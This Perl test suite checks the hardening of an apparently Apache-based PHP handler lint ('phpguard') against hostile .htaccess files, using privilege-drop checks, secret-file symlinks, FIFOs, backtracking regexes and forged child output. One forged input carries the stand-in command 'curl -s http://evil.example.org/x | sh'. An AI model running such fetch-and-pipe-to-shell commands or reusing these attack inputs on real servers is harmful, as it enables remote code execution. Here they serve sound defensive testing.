# The lint reads what site owners wrote, and they may mean ill: as whom it
# reads, how much, for how long, and what of it can stop a reload.
# also under: sanitizer valgrind
use strict;
use warnings;
use FindBin;
use lib "$FindBin::Bin/../lib";
use File::Path qw(make_path);
use IO::Socket::INET;
use IO::Socket::UNIX;
use PGTest;
use PGTest::HTTP;
use PGTest::Lint;
use POSIX ();
use Socket qw(SOCK_STREAM pack_sockaddr_un);
use Test::More;
use Time::HiRes qw(sleep time);

plan skip_all => 'only root has rights to give up' if $> != 0;
my $www = getpwnam 'www-data';
my $modules = $ENV{PG_MODULES} || '/usr/lib/apache2/modules';
# what is slow under a wrapper is not measured
my $slow = $ENV{PG_WRAP} || $ENV{PG_PRELOAD};

my $runs = "    AddHandler application/x-httpd-php .php\n";
my $leaks = "    SetHandler php5-fcgi\n";

my $number = 0;
sub server
{
    my ($conf, %more) = @_;
    return PGTest::Lint->make({
        path => 'child ' . ++$number, mpm => $more{mpm} || 'prefork',
        modules => $more{modules} || 'mime php',
        files => join(' ', map { "/$_/index.php" } qw(a b c)),
        conf => $conf },
        expect => [qr/PHPG\d{4}|^ {2,15}\S|phpguard: /,
            @{ $more{expect} || [] }],
        guard_conf => $more{guard} || '');
}

sub started
{
    my ($s, $name) = @_;
    my $failure = $s->start;
    is($failure, undef, $name);
    return !defined $failure;
}

# How long a thing takes.
sub seconds
{
    my ($what) = @_;
    my $began = time;
    $what->();
    return time - $began;
}

sub kinds { join ' ', map { "$_->{id}" } findings($_[0]) }

# A hole in httpd's parser would be code in the lint's child: this module's
# directive is one. It runs as the server's user, without a right of root's or
# a way to one, and has nothing open but pipes.
my $top = "$FindBin::Bin/../..";
system('make', '-s', '-C', $top, 'probe') == 0 or die 'no probe';
my $probe = "LoadModule cern_meta_module "
    . "$top/.build/probe/mod_cern_meta.so\n";

for my $how ([qw(prefork)], [qw(event)], [qw(worker)], ['prefork', 'itk']) {
    my ($mpm, $itk) = @$how;
    my $name = join ' and ', @$how;
    if ($itk && !has_module('itk')) {
      SKIP: { skip "$name: ${\missing(modules => 'itk')}", 1 }
        next;
    }
    my $s = server(($itk ? "LoadModule mpm_itk_module $modules/mpm_itk.so\n"
            : '') . $probe . vhost('a', ''),
        mpm => $mpm, modules => 'mime',
        expect => [qr/AssignUserID|mpm_itk|resuming normal/i]);
    make_path($s->root . '/spy');
    chown $www, -1, $s->root . '/spy';
    my $said = $s->root . '/spy/said';
    $s->write_file('/a/.htaccess', "ProbeAct spy $said\n");
    # a descriptor of the caller's, as a shell's or apt's may be
    my $mine = POSIX::open('/etc/hostname', POSIX::O_RDONLY());
    POSIX::dup2($mine, 77);
    my $clean = sub {
        my ($when) = @_;
        my $text = PGTest::slurp($said);
        like($text, qr/^Uid:\t$www\t$www\t$www\t$www$/m,
            "$name, $when: by the server's user");
        is(join(' ', $text =~ /^(Cap(?:Inh|Prm|Eff|Amb):\t0*[1-9a-f].*)/mg), '',
            '... no capability is left') or diag($text);
        is(join(' ', $text =~ /^NoNewPrivs:\t(.)/mg) =~ s/1 ?//gr, '',
            '... nor a way to one');
        is(join(' ', $text =~ /^(?:shadow|other|root) (open|became)/mg), '',
            '... no file of root, and nobody else');
        # valgrind has files of its own; two without a name are for questions
        # about repairs, and their answers
        # httpd trunk's core has one socket without a peer (dummy_socket)
        $text = join 'Uid:', map { s/^fd \d+ socket:.*\n//mr } split /Uid:/, $text
            if since('2.5');
        is(join(' ', grep { !$ENV{PG_WRAP} && !m{^(?:/dev/null|pipe:\[\d+\]
                |/\S+/phpguard-trial\.\w+\ \(deleted\))$}x }
            $text =~ /^fd \d+ (.*)/mg), '', '... and nothing is open');
        unlink $said;
    };
    my ($status, $err) = $s->check;
    is($status, 0, "$name: -t passes") or diag($err);
    $clean->('-t');
    started($s, "$name: starts") or next;
    $clean->('a start');
    $s->graceful;
    $clean->('a restart');
    POSIX::close($_) for 77, $mine;
    $s->stop;
}

# A link to a file that its owner must not read; the same to one that httpd
# may read: its text is nobody's business either.
for my $mode (0600, 0644) {
    my $s = server(vhost('a', $runs));
    my $secret = $s->write_file('/secret', "s3cret:x:0\nmore-s3cret\n");
    chmod $mode, $secret;
    symlink $secret, $s->root . '/a/.htaccess' or die $!;
    my ($status, $err) = $s->check;
    is(kinds($err), $mode == 0600 ? 'PHPG0412' : 'PHPG0411',
        sprintf('a link, %o: -t', $mode)) or diag($err);
    unlike($err, qr/s3cret/, '... none of its text on the console');
    started($s, '... starts');
    unlike(PGTest::slurp($s->root . "/$_"), qr/s3cret/,
        "... none of its text in $_") for qw(error.log a.log console);
    like(PGTest::slurp($s->root . '/a.log'), qr{PHPG041[12]: .*/a/\.htaccess},
        '... but which file it is');
    $s->stop;
}

# What takes its time.
{
    my $s = server(vhost('a', $runs) . vhost('b', $leaks));
    my $access = $s->root . '/a/.htaccess';
    POSIX::mkfifo($access, 0644) or die $!;
    my ($status, $err);
    my $took = seconds(sub { ($status, $err) = $s->check });
    cmp_ok($took, '<', 8, 'a FIFO: -t comes back');
    is($status, 0, '... and passes') or diag($err);
    is(kinds($err), 'PHPG0103', '... with what stands elsewhere');
    started($s, '... and so does a start');
    cmp_ok(seconds(sub { $s->graceful }), '<', 20, '... and a restart');
    unlink $access;
    $s->stop;
}
{
    my $s = server(vhost('a', $runs));
    $s->write_file('/a/.htaccess', "AddType x/y .z\n" x 1_600_000);
    my ($status, $err);
    my $took = seconds(sub { ($status, $err) = $s->check('-D',
        'DUMP_PHPGUARD_JSON') });
    cmp_ok($took, '<', 2, 'a .htaccess of 24 MB: -t comes back')
        if !$slow;
    is($status, 0, '... and passes');
    (undef, undef, my $out) = $s->check('-D', 'DUMP_PHPGUARD_JSON');
    my ($row) = grep { $_->{name} eq 'index.php'
        && $_->{context} =~ m{/a$} } json_rows($out);
    is($row->{verdict}, 'unknown', '... what it makes of PHP is not known');
    $s->reconfigure("LogLevel phpguard:info\n" . vhost('a', $runs));
    ($status, $err) = $s->check;
    my @found = findings($err);
    is("@{[map { qq($_->{id} $_->{severity}) } @found]}", 'PHPG0412 note',
        '... a note says why') or diag($err);
    like($found[0]{says}, qr/larger than 1 MB/, '... it is too large');
    $s->gone;
}

# What ends the process that reads it, or does not let it end: said in a
# line, and the rest is looked at all the same.
for (['ends by a signal', 'signal 6', qr/signal 6/],
     ['ends', 'exit 0', qr/the lint exited there/],
     ['does not end', 'sleep 600', qr/timed out/],
     ['closes what it has', 'close x', qr/timed out/]) {
    my ($what, $act, $says) = @$_;
    my $s = server($probe . vhost('a', "    Action x /x\n    SetHandler x\n")
        . vhost('b', $leaks), modules => 'mime actions');
    $s->write_file('/a/.htaccess', "ProbeAct $act\n");
    my ($status, $err, $out);
    my $took = seconds(sub { ($status, $err) = $s->check });
    cmp_ok($took, '<', $slow ? 60 : 8, "a reader that $what: -t comes back");
    is($status, 0, '... and passes');
    like($err, qr{^phpguard: /\S+/a/\.htaccess: .*$says.*not looked at}m,
        '... one line says so') or diag($err);
    is(scalar(() = $err =~ /^.*phpguard: (?!\d+ error)/mg), 1,
        '... only one')
        or diag($err);
    like($err, qr/^phpguard: 1 error .*; 1 place not looked at$/m,
        '... and the total counts it') or diag($err);
    is(kinds($err), 'PHPG0103', '... and the other vhost is looked at');
    (undef, undef, $out) = $s->check('-D', 'DUMP_PHPGUARD_JSON');
    my %times;
    $times{"$_->{context} $_->{name}"}++ for json_rows($out);
    cmp_ok(scalar(keys %times), '>', 5, '... the dump is whole');
    is(join(', ', grep { $times{$_} > 1 } sort keys %times), '',
        '... and says nothing twice');
    started($s, '... and it starts');
    like(PGTest::slurp($s->root . '/error.log'), $says,
        '... with the line in the error log');
    $s->stop;
}

# What such code tells in the child's name: no text of its own refuses a
# reload, no command of its own gets into a log, and what it says of the end
# does not hide the others.
{
    my $s = server($probe . vhost('a', $runs) . vhost('b', $leaks));
    my $root = $s->root;
    my $curl = 'run "curl -s http://evil.example.org/x | sh"';
    started($s, 'a server');
    my $forge = sub { $s->write_file('/forged', join "\n", @_, '') };
    $forge->('a/srv/bank/index.php, vhost of any name', 'a99 /x', 'e0', '.');
    $s->write_file('/a/.htaccess', "ProbeAct tell $root/forged\n");
    my ($status, $err) = $s->check;
    is($status, 0, 'a forged text refuses no reload') or diag($err);
    is(kinds($err), 'PHPG0103', '... a forged end hides nobody');
    like($err, qr/^phpguard: 1 error/m, '... nor does a forged number');
    $forge->("y31 PHPG0105: $root/b/index.php is refused; fix: $curl; more: "
            . 'phpguard explain PHPG0105', "y31 $curl",
        map { my $n = $_; map { "k$root/httpd.conf:$_\t$root/b/\t$n\t"
            . "$root/httpd.conf:@{[$_ + 8]}\t$n\tSetHandler x (y:1)\t$curl" }
            1 .. 80 } 103, 102, 101);
    $s->graceful;
    $s->raw("GET /index.php HTTP/1.0\r\nHost: b\r\n\r\n");
    unlike(PGTest::slurp("$root/$_"), qr/curl/,
        "... no command of its own in $_") for qw(error.log a.log b.log);
    like(PGTest::slurp("$root/b.log") . PGTest::slurp("$root/a.log"),
        qr/PHPG0105: \S+ is refused; more: phpguard/, '... the rest is logged');
    $s->stop;
}

# Patterns that backtrack are a file's as well; a start waits five seconds at
# most, and what it has not seen to its end it does not compare with.
if (!$slow) {
    my $slowly = join '', map { '<FilesMatch "^(a+)+[b-z]{' . ($_ % 5 + 1)
        . "}\">\nSetHandler x$_\n</FilesMatch>\n" } 1 .. 290;
    my $s = server(vhost('a', $runs) . vhost('b', $leaks));
    $s->write_file('/a/' . 'a' x 40 . '.PHP', '<?php');
    $s->write_file('/a/.htaccess', $slowly);
    my ($status, $err);
    my $took = seconds(sub { ($status, $err) = $s->check });
    cmp_ok($took, '<', 6, 'patterns that backtrack: -t comes back');
    like($err, qr{/a/\.htaccess: timed out: not looked at},
        '... with a line') or diag($err);
    is(kinds($err), 'PHPG0103', '... and the other vhost is looked at');
    $took = seconds(sub { started($s, '... and it starts') });
    cmp_ok($took, '<', 6, '... in time');
    ok(-e $s->root . '/run/pid.phpguard', '... with a state file');
    ($status) = $s->check;
    is($status, 0, '... and the next test passes');
    $took = seconds(sub { $s->graceful });
    cmp_ok($took, '<', 6, '... and a restart does not wait');
    $s->write_file("/a/.htaccess", '');
    ($status) = $s->check;
    is($status, 0, '... and a test when the file is mended');
    $s->stop;
}

# The time limit: the total says how much was looked at, "no errors" alone would
# stand for all.
if (!$slow) {
    my @many = map { sprintf 'v%02d', $_ } 1 .. 16;
    my $s = server($probe . join('', map { vhost($_, $runs) } @many));
    $s->write_file("/$_/.htaccess", "ProbeAct sleep 1\n") for @many;
    $s->write_file("/$_/index.php", '<?php') for @many;
    my ($status, $err) = $s->check;
    is($status, 0, 'more than fits into the time limit: -t passes');
    my ($n) = $err =~ /^phpguard: no errors in the first (\d+) places; the time limit was reached after \1 places: the others were not looked at$/m;
    cmp_ok($n || 0, '>', 4, '... and says how much was looked at') or diag($err);
    like($err, qr{^phpguard: the time limit of the lint was reached: it checked \d+ places and stopped before \S+/v\d\d/, vhost v}m,
        '... and where it stopped') or diag($err);
    $s->gone;
}

# Directories that the server's user may not list.
{
    my $s = server(vhost('a', $leaks) . vhost('b', $leaks)
        . vhost('c', $runs));
    chmod 0711, map { $s->root . "/$_" } qw(a c);
    my ($status, $err) = $s->check;
    like($err, qr{2 document roots cannot be listed by www-data: only index\.php},
        'directories that cannot be listed are counted');
    my ($found) = findings($err);
    like($found->{in}, qr{/a/index\.php, vhost a.*(?:and 1 more place|/b/index\.php)},
        '... and index.php is found by its name') or diag($err);
    is(scalar(() = $err =~ /cannot be listed/g), 1, '... in one line');
    chmod 0700, $s->root . '/a';
    ($status, $err) = $s->check;
    ($found) = findings($err);
    unlike($found->{in}, qr{/a/index\.php},
        'where httpd comes to no file, none leaks') or diag($err);
    $s->gone;
}

# Who may make a link beside the PidFile.
{
    my $s = server(vhost('a', $runs));
    my $root = $s->root;
    my $victim = $s->write_file('/victim', "precious\n");
    symlink $victim, "$root/run/pid.phpguard.new" or die $!;
    started($s, 'a link as the name of the new state file');
    is(PGTest::slurp($victim), "precious\n", '... is not written through');
    ok(-f "$root/run/pid.phpguard" && !-l "$root/run/pid.phpguard",
        '... and the state is written');
    unlink "$root/run/pid.phpguard";
    POSIX::mkfifo("$root/run/pid.phpguard", 0644) or die $!;
    my $status;
    my $took = seconds(sub { ($status) = $s->check });
    cmp_ok($took, '<', 8, '... nor does a FIFO as the state file hold up -t');
    unlink "$root/run/pid.phpguard";
    # not by who runs the server: it could name every leak "known"
    $s->reconfigure(vhost('a', $leaks));
    $s->write_file('/run/pid.phpguard', 'x');
    chown $www, -1, "$root/run/pid.phpguard";
    ($status) = $s->check;
    is($status, 0, '... and another user\'s is none');
    unlink "$root/run/pid.phpguard";
    $s->stop;
}

# Who is not root has no rights to give up; the child is there all the same.
SKIP: {
    my $s = server(vhost('a', $leaks));
    system 'chown', '-R', 'www-data', $s->root;
    my ($out) = map { $s->root . "/$_" } qw(check.out);
    my $pid = fork;
    if (!$pid) {
        POSIX::setgid((getpwnam 'www-data')[3]);
        POSIX::setuid($www);
        open STDIN, '<', '/dev/null';
        my $child = $s->spawn($out, '-t');
        waitpid $child, 0;
        POSIX::_exit($? >> 8);
    }
    waitpid $pid, 0;
    is($? >> 8, 0, 'by another user than root: -t passes');
    is(kinds(PGTest::slurp($out)), 'PHPG0103', '... and finds')
        or diag(PGTest::slurp($out));
    $s->gone;
}

# Where it knocks: at what root's configuration names, and nowhere else. A
# full backlog is an answer, and a name that looks like an address is none.
{
    my $beaten = qq{<FilesMatch "\\.php\$">\n    SetHandler php5-fcgi\n}
        . "</FilesMatch>\n";
    my $s = server(vhost('a', '') . vhost('b', ''),
        modules => 'mime proxy proxy_fcgi');
    my $root = $s->root;
    my $configure = sub {
        $s->{conf} = $_[0];
        $s->write_file('/httpd.conf', $s->configuration);
    };
    my $listen = sub {
        my ($name, $queue) = @_;
        my $socket = IO::Socket::UNIX->new(Listen => $queue,
            Local => "$root/$name") or die "$name: $!";
        chmod 0777, "$root/$name";
        return $socket;
    };
    my $knocked = sub {
        my ($socket) = @_;
        my ($n, $fds) = (0, '');
        vec($fds, fileno $socket, 1) = 1;
        $n++ while select(my $ready = $fds, undef, undef, 0)
            && $socket->accept;
        return $n;
    };
    my $port = IO::Socket::INET->new(Listen => 5, LocalAddr => '127.0.0.1')
        or die $!;
    my %at = (sock => $listen->('sock', 5), full => $listen->('full', 0));
    my @callers = map { my $c = IO::Socket::UNIX->new(Type => SOCK_STREAM);
        $c->blocking(0); connect $c, pack_sockaddr_un("$root/full"); $c } 1 .. 4;
    my $unix = qq{SetHandler "proxy:unix:$root/%s|fcgi://localhost"\n};
    my $tcp = 'SetHandler "proxy:fcgi://127.0.0.1:' . $port->sockport . qq{"\n};
    for my $case (['unix', sprintf($unix, 'sock'), $at{sock}],
        ['tcp', $tcp, $port]) {
        my ($name, $handler, $socket) = @$case;
        $configure->(vhost('a', ''));
        $s->write_file('/a/.htaccess', $handler . $beaten);
        my ($status, $err) = $s->check;
        is(kinds($err), 'PHPG0101', "$name: a .htaccess has the finding")
            or diag($err);
        is($knocked->($socket), 0, '... and has nobody knocked at');
        unlink "$root/a/.htaccess";
        $configure->(vhost('a', $handler . $beaten));
        ($status, $err) = $s->check;
        cmp_ok($knocked->($socket), '>', 0,
            '... whom the configuration names is') or diag($err);
    }
    $configure->(vhost('a', sprintf($unix, 'full') . $beaten));
    my ($status, $err) = $s->check;
    my ($found) = findings($err);
    like($found->{fix}, qr/delete|proxy:unix/, 'a full backlog is an answer')
        or diag($err);
    $s->gone;
}

# What a dump is asked for comes, also when the test then fails.
for my $define (qw(DUMP_PHPGUARD DUMP_PHPGUARD_JSON)) {
    my $s = server(vhost('a', $leaks) . vhost('b', $runs),
        guard => "PHPGuardLint Test\n");
    my ($status, $err, $out) = $s->check('-D', $define);
    is($status, 1, "$define: the test fails");
    like($out, qr{/a\b.*leaks.*/b\b.*runs}s, "$define: the dump is there");
    is(scalar(() = $out =~ m{(?:"name":"| )index\.php\b(?!\.en)}g), 2,
        "$define: once");
    $s->gone;
}

# Nothing of other modules' is started, doubled or left behind.
{
    my $s = server(vhost('a', $leaks), mpm => 'event',
        modules => join(' ', grep { has_module($_) } qw(mime cgid fcgid perl ssl
            http2 watchdog md)),
        expect => [qr/./]);
    my ($status) = $s->check;
    is($status, 0, 'with modules that have processes and threads: -t');
    is(scalar(glob $s->root . '/run/cgisock*') || '', '',
        '... no socket of theirs');
    started($s, '... a start');
    my $parent = $s->pid;
    my $state = sub {
        my @all = map { [ PGTest::slurp($_) =~ /\((.*)\) (\S) (\d+)/ ] }
            glob '/proc/[0-9]*/stat';
        return grep { defined $_->[2] && $_->[2] == $parent } @all;
    };
    # cgid's and fcgid's daemons and the children that serve
    my $before = grep { $_->[1] ne 'Z' } $state->();
    $s->graceful for 1 .. 3;
    sleep 0.5;
    my @after = $state->();
    is(scalar(grep { $_->[1] eq 'Z' } @after), 0, '... no zombie');
    cmp_ok(scalar(@after), '<=', $before + 1, '... no more processes')
        or diag(join ', ', map { "@$_" } @after);
    my $log = PGTest::slurp($s->root . '/a.log');
    is(scalar(() = $log =~ /PHPG0103/g), 4, '... a line for each start');
    $s->stop;
}
done_testing;
